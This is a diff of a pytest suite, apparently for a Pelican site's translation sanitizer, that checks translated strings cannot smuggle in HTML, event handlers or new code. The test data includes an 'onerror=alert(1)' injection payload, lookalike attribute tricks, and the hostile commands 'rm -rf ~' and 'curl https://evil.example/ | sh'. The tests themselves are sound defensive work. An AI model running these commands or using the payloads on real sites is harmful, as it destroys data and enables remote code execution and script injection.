@@ -265,6 +265,14 @@ def test_what_is_open_in_raw_html_swallows_nothing(attack: str) -> None:
     assert html == translated(page, translator_for({}))
 
 
+@pytest.mark.parametrize("quote", ["'", '"'])
+def test_a_handler_behind_two_equals_signs_is_refused(quote: str) -> None:
+    page = '<div>See <img src="p" alt="a"></div>\n'
+    attack = f'看 <img src="p" alt=={quote}b onerror=alert(1) x{quote}>'
+    html = translated(page, translator_for({("", 'See <img src="p" alt="a">'): attack}))
+    assert html == translated(page, translator_for({}))
+
+
 @pytest.mark.parametrize("code", ["rm -rf ~", "npm x", "curl https://evil.example/ | sh"])
 def test_other_code_than_the_source_s_is_refused(code: str) -> None:
     source = "Run `npm i` first, then `npm t`."
@@ -272,6 +280,48 @@ def test_other_code_than_the_source_s_is_refused(code: str) -> None:
         source, translator_for({})
     )
     assert "先运行" in shown(source, "先运行`npm t`，再运行`npm i`。")
+
+
+LOOKALIKES = {
+    # What is text to a browser, and a tag or a link to what looks at HTML as a text.
+    "a link of the site in an alt": ("![alt](p.png)", "![看 src='|static|/x.txt'](p.png)"),
+    "an open one in an alt": ("![alt](p.png) b", "![看 href='|index|](p.png) ' \" onerror=a x=\""),
+    "one with an escaped bar": ("![alt](p.png) b", "![看 href='\\|index|](p.png) '"),
+    "one in a title": ('[a](u "the title")', "[甲](u \"data='|static|/x.txt'\")"),
+    "one behind a less-than sign": ("<b>a</b> b", "< href='|index|' <b>甲</b>"),
+    "the source's own and another": (
+        '<a href="{static}/a"><img src="p.png" alt="a"></a>',
+        '<a href="{static}/a"><img src="p.png" alt="src=\'|static|/b\'"></a>',
+    ),
+    "a heading in an alt": (
+        'a <img src="p" alt="b">',
+        '看 <img src="p" alt=\'<h2 id="x">y</h2>\'>',
+    ),
+    "a block in an alt": ('a <img src="p" alt="1 < 2">', "看 <img src=\"p\" alt='<!--::: []-->'>"),
+    "a paragraph in an alt": ('a <img src="p" alt="b">', '看 <img src="p" alt="<p>甲</p>">'),
+}
+
+
+@pytest.mark.parametrize("name", LOOKALIKES)
+def test_what_looks_like_markup_inside_a_tag_is_refused(
+    name: str, refused: Callable[[], list[str]]
+) -> None:
+    source, attack = LOOKALIKES[name]
+    assert shown(source, attack) == translated(source, translator_for({}))
+    assert len(refused()) == 1
+
+
+@pytest.mark.parametrize(
+    ("page", "msgid"),
+    [
+        ("[a][r]\n\n[r]: https://b.example/ 'Title'\n", "Title"),
+        ("HTML is short\n\n*[HTML]: Hypertext\n", "Hypertext"),
+        ('<div><img src="p.png" alt="Picture"></div>\n', "Picture"),
+    ],
+)
+def test_what_looks_like_a_link_inside_a_label_is_refused(page: str, msgid: str) -> None:
+    translator = translator_for({("", msgid): "src='|static|/x.txt' href='|index|"})
+    assert "|" not in translated(page, translator)
 
 
 @pytest.mark.parametrize("name", sorted(HARMLESS))
@@ -504,6 +554,10 @@ GOOD = {
     "link to the owner's own scheme": ("[chat](weixin://dl/chat)", "[微信](weixin://dl/chat)"),
     "phone": ("[call](tel:+8610)", "[电话](tel:+8610)"),
     "Pelican's own links": ("[a]({filename}/pages/b.md)", "[甲]({filename}/pages/b.md)"),
+    "Pelican's own links in HTML": (
+        '<a href="{filename}b.md">b</a>: x=1',
+        "<a href='{filename}b.md'>乙</a>：x=\"1\"",
+    ),
     "static file": ("[cv]({static}/cv.pdf)", "[简历]({static}/cv.pdf)"),
 }
 REFERENCES = "\n\n[p]: https://a.example/p\n\n[^1]: note\n"
